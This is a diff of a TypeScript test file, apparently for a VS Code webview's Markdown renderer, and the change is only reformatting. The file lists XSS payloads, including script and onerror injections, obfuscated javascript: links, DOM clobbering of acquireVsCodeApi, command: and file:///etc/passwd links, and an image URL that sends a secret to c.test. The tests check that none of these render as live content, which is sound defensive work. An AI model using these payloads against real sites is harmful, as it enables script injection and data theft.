@@ -30,19 +30,24 @@ const payloads: Readonly<Record<string, string>> = {
   form: '<form action="https://c.test"><button>go</button></form>',
   base: '<base href="https://c.test/"><meta http-equiv="refresh" content="0;url=https://c.test">',
   style: '<style>@import "https://c.test/x.css"; * { background: url(https://c.test/y) }</style>',
-  template: '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
+  template:
+    '<template><script>alert(1)</script></template><noscript><p title="</noscript><img src=x onerror=alert(1)>">',
   clobbering: '<a id=acquireVsCodeApi><a id=acquireVsCodeApi name=postMessage>',
   comment: '<!--><img src=x onerror=alert(1)>--><![CDATA[<script>]]>',
-  javascriptLink: '[x](javascript:alert(1)) [y](JaVaScRiPt&#58;alert(1)) [z](java&Tab;script:alert(1)) <javascript:alert(1)>',
-  otherLinks: '[a](data:text/html,<b>) [b](vbscript:x) [c](command:workbench.action.quit?%5B%5D) [d](vscode://a.b) [e](file:///etc/passwd) [f](//c.test)',
+  javascriptLink:
+    '[x](javascript:alert(1)) [y](JaVaScRiPt&#58;alert(1)) [z](java&Tab;script:alert(1)) <javascript:alert(1)>',
+  otherLinks:
+    '[a](data:text/html,<b>) [b](vbscript:x) [c](command:workbench.action.quit?%5B%5D) [d](vscode://a.b) [e](file:///etc/passwd) [f](//c.test)',
   referenceLink: '[x][r]\n\n[r]: javascript:alert(1) "t"\n\n[y][s]\n\n[s]: <command:a.b>',
   autolink: '<command:workbench.action.quit> <vscode://x/y> <data:text/html,x> www.c.test ftp://c.test',
   brokenAttribute: '[x](https://c.test/"onmouseover="alert(1)) [y](https://c.test/\'><script>)',
   titleAttribute: '[x](https://c.test "\\" onclick=alert(1)")',
   image: '![secret](https://c.test/?q=SECRET) ![x][i]\n\n[i]: https://c.test/i.png',
   imageInLink: '[![x](https://c.test/a.png)](javascript:alert(1))',
-  imageSources: '![a](data:image/svg+xml;base64,PHN2Zz4=) ![b](file:///x.png) ![c](//c.test/x.png) ![d](javascript:alert(1))',
-  imageTags: '<picture><source srcset="https://c.test/a"><img srcset="https://c.test/b"></picture><video poster=https://c.test/c>',
+  imageSources:
+    '![a](data:image/svg+xml;base64,PHN2Zz4=) ![b](file:///x.png) ![c](//c.test/x.png) ![d](javascript:alert(1))',
+  imageTags:
+    '<picture><source srcset="https://c.test/a"><img srcset="https://c.test/b"></picture><video poster=https://c.test/c>',
   diagram: '```mermaid\ngraph TD; A[<img src="https://c.test">]-->B; click A href "javascript:alert(1)"\n```',
   formula: '$$\\includegraphics{https://c.test/x}\\href{javascript:alert(1)}{x}$$',
   codeInfo: '```js"onmouseover="alert(1)\nx\n```\n\n```<script>\ny\n```',
@@ -102,13 +107,16 @@ describe('Markdown', () => {
     expect(problemsIn(draw(`> - ${payload.replaceAll('\n', '\n>   ')}`))).toEqual([]);
   });
 
-  it.each(Object.entries(payloads))('draws nothing but what is allowed at any moment of its arrival: %s', (_name, payload) => {
-    const root = document.createElement('div');
-    for (let end = 1; end <= payload.length; end += 1) {
-      draw(payload.slice(0, end), true, root);
-      expect(problemsIn(root)).toEqual([]);
-    }
-  });
+  it.each(Object.entries(payloads))(
+    'draws nothing but what is allowed at any moment of its arrival: %s',
+    (_name, payload) => {
+      const root = document.createElement('div');
+      for (let end = 1; end <= payload.length; end += 1) {
+        draw(payload.slice(0, end), true, root);
+        expect(problemsIn(root)).toEqual([]);
+      }
+    },
+  );
 
   it('shows HTML as the text that it is', () => {
     expect(draw(payloads['script'] ?? '').textContent).toBe('<script>alert(1)</script>');
@@ -141,7 +149,10 @@ describe('Markdown', () => {
     const root = draw(`# Title\n\n${sampleAnswer}`);
     expect(root.querySelector('h3')?.textContent).toBe('Title');
     expect(root.querySelectorAll('ol > li')).toHaveLength(2);
-    expect([...root.querySelectorAll<HTMLInputElement>('input[type=checkbox]')].map(({ checked }) => checked)).toEqual([true, false]);
+    expect([...root.querySelectorAll<HTMLInputElement>('input[type=checkbox]')].map(({ checked }) => checked)).toEqual([
+      true,
+      false,
+    ]);
     expect(root.querySelector('td.align-right')?.textContent).toBe('41 ms');
     expect(root.querySelector('.code-block .code-language')?.textContent).toBe('ts');
     expect(root.querySelector('.code-block .code-keyword')?.textContent).toBe('export');
